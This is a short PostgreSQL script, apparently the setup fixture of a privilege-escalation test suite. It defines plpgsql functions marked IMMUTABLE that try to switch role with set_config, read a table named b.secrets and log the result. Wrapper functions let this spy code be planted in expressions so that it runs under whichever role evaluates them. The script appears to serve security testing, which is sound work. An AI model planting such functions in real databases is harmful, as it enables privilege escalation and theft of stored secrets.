-- What every attack starts from: role_a's schema, and functions that say who runs them and try to become somebody
-- else. A server writes RAISE LOG into its log whatever becomes of the transaction; no role can turn that off.
CREATE SCHEMA a;
GRANT USAGE ON SCHEMA a TO role_b, catalog;
ALTER DEFAULT PRIVILEGES IN SCHEMA a GRANT SELECT ON TABLES TO role_b, catalog;

CREATE FUNCTION a.climb(target text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
DECLARE
    loot text;
BEGIN
    PERFORM pg_catalog.set_config('role', target, true);
    SELECT secret INTO STRICT loot FROM b.secrets;
    RAISE EXCEPTION 'got %', loot;
EXCEPTION WHEN OTHERS THEN
    -- Leaving the block so takes the setting back: what comes next runs as the statement does.
    RETURN translate(SQLERRM, E'|\n', '  ');
END $$;

CREATE FUNCTION a.spy(place text DEFAULT '') RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    RAISE LOG 'planted|%|%|%', current_user, session_user,
        concat_ws('; ', a.climb('role_b'), a.climb('none'), a.climb('postgres'));
    RETURN true;
END $$;

CREATE FUNCTION a.spy_text(value text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM a.spy();
    RETURN value;
END $$;

CREATE FUNCTION a.spy_int(value int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM a.spy();
    RETURN value;
END $$;
